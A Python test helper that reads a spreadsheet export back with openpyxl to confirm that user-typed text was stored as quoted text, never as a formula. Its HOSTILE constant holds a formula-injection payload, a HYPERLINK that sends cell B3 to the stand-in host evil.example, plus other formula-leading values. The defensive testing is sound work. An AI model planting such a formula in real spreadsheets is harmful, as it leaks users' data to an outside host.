"""Reading an export back to prove that no text became a formula."""

import io

from openpyxl import load_workbook

# Text a user could type that a spreadsheet would run: each lead OWASP lists.
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'
HOSTILE_VALUES = (HOSTILE, "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def read(data: bytes):
    return load_workbook(io.BytesIO(data))


def formula_cells(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def text_cells(book) -> dict[str, object]:
    """Each text value of the workbook → the cell holding it (the first one)."""
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, cell)
    return found


def assert_kept_as_text(data: bytes, *values: str) -> None:
    """No cell is a formula, and each hostile value is there, as typed, as quoted text."""
    book = read(data)
    assert formula_cells(book) == []
    texts = text_cells(book)
    for value in values:
        assert value in texts, (value, sorted(texts)[:20])
        assert texts[value].data_type == "s" and texts[value].quotePrefix
